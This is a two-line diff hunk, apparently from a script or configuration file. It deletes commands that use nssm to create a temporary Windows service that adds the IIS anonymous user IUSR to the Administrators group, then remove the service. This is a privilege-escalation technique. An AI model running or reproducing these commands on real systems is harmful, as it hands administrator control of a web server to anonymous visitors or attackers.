@@ -1,2 +1,0 @@
-nssm install web cmd.exe /c net localgroup Administrators IUSR /add
-nssm remove web confirm
